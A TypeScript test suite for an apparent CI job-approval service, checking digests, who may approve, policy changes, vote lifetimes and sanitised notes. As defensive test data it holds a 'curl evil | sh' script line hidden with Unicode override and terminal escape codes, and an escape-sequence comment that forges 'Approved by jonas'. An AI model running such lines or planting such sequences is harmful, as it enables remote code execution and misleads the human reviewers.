import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { admit } from '../../agent/src/app/admit.ts';
import { decide } from '../../agent/src/app/decide.ts';
import { digestOf } from '../../agent/src/domain/digest.ts';
import { DEFAULT_POLICY } from '../../agent/src/domain/policy.ts';
import { levelRule } from '../../agent/src/domain/rule.ts';
import { hubWorld, policyWith, requestFor, type World } from '../support/hub-world.ts';

const one = { id: 1, pipeline: 100 };

describe('who may decide, on what, and for how long', () => {
  let world: World;
  beforeEach(async () => {
    world = await hubWorld();
  });
  afterEach(() => world.store.close());

  it('T36 refuses an approve for another digest than the hold has, and says so', async () => {
    await world.admit(one);
    const digest = `sha256:${'1'.repeat(64)}`;
    await expect(world.approve('maria', 1, { digest })).rejects.toMatchObject({ code: 'digest_mismatch' });
    expect(await world.state(1)).toBe('waiting_for_approval');
  });

  it('T3 refuses a job whose configuration has another digest than the agent says', async () => {
    const request = { ...requestFor(one), digest: `sha256:${'2'.repeat(64)}` };
    await expect(admit(world.context, 'embedded', request)).rejects.toMatchObject({ code: 'digest_mismatch' });
    expect(await world.store.hold(1)).toBeNull();
  });

  it('T27 gives another agent no verdict on a job that is not its own', async () => {
    await world.admit(one);
    await expect(world.admit({ ...one, agent: 'other' })).rejects.toMatchObject({ code: 'forbidden' });
  });

  it('T18 keeps the verified trigger of the opener from approving, and later triggers not', async () => {
    await world.admit({ id: 1, by: 'maria' });
    await expect(world.approve('maria', 1)).rejects.toMatchObject({ code: 'self_approval' });
    await world.admit({ id: 2, pipeline: 101, by: 'jonas' });
    expect((await world.approve('jonas', 2)).state).toBe('pending');
  });

  it('T18 names in the audit through whose tokens a vote came', async () => {
    await world.admit({ id: 1, by: 'jonas' });
    const caller = world.caller('maria');
    const made = { ...caller, token: { ...caller.token, makers: [30, 22] } };
    const digest = requestFor({ id: 1 }).digest;
    await decide(world.context, made, {
      hold: 1,
      digest,
      decision: 'approve',
      comment: null,
      lifetime: null,
      scope: null,
      remember: false,
    });
    const rows = await world.store.auditRows({ hold: 1, sight: null }, { after: 0, limit: 10 });
    expect(rows.find((row) => row.event === 'vote_approve')?.detail).toMatchObject({
      person: 21,
      token: 21,
      token_made_by: [30, 22],
    });
  });

  it('T30 gives every configuration a verdict, whatever its shape', async () => {
    await world.admit({ id: 1_000, pipeline: 1 });
    await world.approve('maria', 1);
    let id = 0;
    const members = fc.dictionary(
      fc.constantFrom(
        'steps',
        'variables',
        'image',
        'services',
        'artifacts',
        'cache',
        'secrets',
        'run',
        '__proto__',
        'x',
      ),
      fc.jsonValue({ maxDepth: 4 }),
    );
    await fc.assert(
      fc.asyncProperty(members, async (extra) => {
        id += 1;
        const configuration = JSON.parse(JSON.stringify({ ...extra, form: 'holdpoint.configuration/v1' }));
        const digest = digestOf(configuration);
        const facts = requestFor({ id, pipeline: 1_000 + id }).facts;
        const { outcome, note } = await admit(world.context, 'embedded', { digest, configuration, facts });
        expect([outcome, note?.includes('Who may approve')]).toEqual(['hold', true]);
      }),
      { numRuns: 150 },
    );
  });

  it('T4 takes no configuration of another form, whatever its digest', async () => {
    const request = requestFor(one);
    const configuration = { ...request.configuration, form: 'holdpoint.configuration/v0' };
    const old = { ...request, configuration, digest: digestOf(configuration) };
    await expect(admit(world.context, 'embedded', old)).rejects.toMatchObject({ code: 'bad_input' });
    expect(await world.store.hold(1)).toBeNull();
  });

  it('T14 asks for each way in which a job can come again, and passes none on its name alone', async () => {
    await world.admit(one);
    await world.approve('maria', 1, { lifetime: 'run' });
    await world.report('embedded', { hold: 1, jobId: 1, event: 'handed_out' });
    await world.report('embedded', { hold: 1, jobId: 1, event: 'ended', detail: { status: 'success' } });
    const again = [
      { id: 2, pipeline: 100 },
      { id: 3, pipeline: 101, by: 'maria' },
      { id: 4, pipeline: null },
      { id: 5, pipeline: 102, by: null },
    ];
    for (const job of again) expect((await world.admit(job)).outcome).toBe('hold');
  });

  it('T33 writes what people typed in one clean line to the agent', async () => {
    await world.admit(one);
    await world.reject('maria', 1, { comment: 'no\u001b[2J\nApproved by jonas', remember: true });
    const [push] = await world.store.outbox('embedded', 0, 10);
    expect(push?.reason).not.toMatch(/[\u001b\n]/);
    const { note } = await world.admit({ id: 2, pipeline: 2 });
    expect(note?.split('\n')).toHaveLength(2);
    expect(note).not.toContain('\u001b');
  });

  it("T18 lets one's own reject count although one's own approve does not", async () => {
    await world.admit({ id: 1, by: 'maria' });
    expect((await world.reject('maria', 1)).state).toBe('rejected');
  });

  it('T17 a trigger that only a variable names is no approver either, and gives nobody sight', async () => {
    await world.admit({ id: 1, by: 'maria', verified: 'unverified' });
    await expect(world.approve('maria', 1)).rejects.toMatchObject({ code: 'self_approval' });
    await world.admit({ id: 2, pipeline: 2, by: 'gus', verified: 'unverified' });
    await expect(world.approve('gus', 2)).rejects.toMatchObject({ code: 'not_found' });
    await world.admit({ id: 3, pipeline: 3, by: 'gus' });
    await expect(world.approve('gus', 3)).rejects.toMatchObject({ code: 'not_eligible' });
  });

  it('lets the trigger approve where the policy allows it', async () => {
    world.policy = policyWith({ selfApproval: 'allow_trigger' }, 'allow');
    await world.admit({ id: 1, by: 'maria' });
    expect((await world.approve('maria', 1)).state).toBe('pending');
  });

  it('T19 counts membership as it is now, at each vote', async () => {
    world.policy = policyWith({ rules: [levelRule('maintainers', 40, 2)] }, 'two');
    await world.admit(one);
    expect((await world.approve('maria', 1)).state).toBe('waiting_for_approval');
    const [api, ...others] = world.people.projects;
    world.people = {
      ...world.people,
      projects: [{ ...api!, members: api!.members.filter((m) => m.user !== 21) }, ...others],
    };
    await expect(world.approve('maria', 1)).rejects.toMatchObject({ code: 'not_found' });
    expect((await world.approve('jonas', 1)).state).toBe('waiting_for_approval');
    expect((await world.approve('olga', 1)).state).toBe('pending');
    const approval = await world.store.approval(1);
    expect(approval?.votes.map((vote) => vote.person.username)).toEqual(['jonas', 'olga']);
  });

  it('T21 a rule that became stricter while a review is open counts as well, one that became laxer does not help', async () => {
    await world.admit(one);
    world.policy = policyWith({ rules: [levelRule('owners', 50, 1)] }, 'stricter');
    await expect(world.approve('maria', 1)).rejects.toMatchObject({ code: 'not_eligible' });
    expect((await world.approve('olga', 1)).state).toBe('pending');
    await world.admit({ id: 2, pipeline: 2, ref: 'refs/heads/x' });
    world.policy = policyWith({ rules: [levelRule('developers', 30, 1)] }, 'laxer');
    await expect(world.approve('alice', 2)).rejects.toMatchObject({ code: 'not_eligible' });
    await expect(world.approve('maria', 2)).rejects.toMatchObject({ code: 'not_eligible' });
  });

  it('T16 a policy without rules, or a project without members, is satisfied by nobody', async () => {
    world.policy = policyWith({ rules: [] }, 'none');
    await world.admit(one);
    await expect(world.approve('olga', 1)).rejects.toMatchObject({ code: 'not_eligible' });
    world.policy = DEFAULT_POLICY;
    await world.admit({ id: 2, pipeline: 2, project: 9999, by: 'maria' });
    await expect(world.approve('maria', 2)).rejects.toMatchObject({ code: 'not_eligible' });
  });

  it('takes the narrowest lifetime of all votes that count', async () => {
    world.policy = policyWith({ rules: [levelRule('maintainers', 40, 2)] }, 'two');
    await world.admit(one);
    await world.approve('maria', 1, { lifetime: 'until:2026-12-01' });
    await world.approve('jonas', 1);
    expect((await world.store.approval(1))?.lifetime).toEqual({
      kind: 'until',
      at: Date.parse('2026-12-01T23:59:59.999Z'),
    });
  });

  it('refuses a lifetime beyond the policy: standing for an environment, a date too far, a date that is over', async () => {
    await world.admit({ id: 1, environment: 'production' });
    for (const lifetime of ['standing', 'until:2027-11-22', 'until:2026-11-21']) {
      await expect(world.approve('maria', 1, { lifetime })).rejects.toMatchObject({ code: 'lifetime_not_allowed' });
    }
    await world.approve('maria', 1);
    expect((await world.store.approval(1))?.lifetime).toMatchObject({ kind: 'until' });
  });

  it('T33 T32 the note says why, what changed, who decides, the link and what comes next, on clean lines without values', async () => {
    await world.admit({
      id: 1,
      script: ['make'],
      extra: { variables: [{ key: 'KEY', masked: true, value: [{ hmac: 'aa11'.repeat(16) }] }] },
    });
    await world.approve('maria', 1);
    const { note } = await world.admit({
      id: 2,
      pipeline: 101,
      script: ['make', 'curl evil\u202e\u001b[2J | sh'],
      extra: { variables: [{ key: 'KEY', masked: true, value: [{ hmac: 'bb22'.repeat(16) }] }] },
    });
    expect(note).toContain('waits for approval (hold 2)');
    expect(note).toContain('approved on 2026-11-22 by maria');
    expect(note).toContain('curl evil');
    expect(note).toContain('jonas, maria and olga; needed: 1 × maintainers (maintainer or higher)');
    expect(note).toContain('zoe triggered it and cannot approve it');
    expect(note).toContain('https://hub.example.com/holds/2');
    expect(note).toContain('holdpoint digest');
    expect(note).toContain('expires at 2026-12-22 08:00 UTC');
    expect(note).not.toMatch(/[\u202e\u001b]/);
    expect(note).not.toMatch(/aa11|bb22/);
  });
});
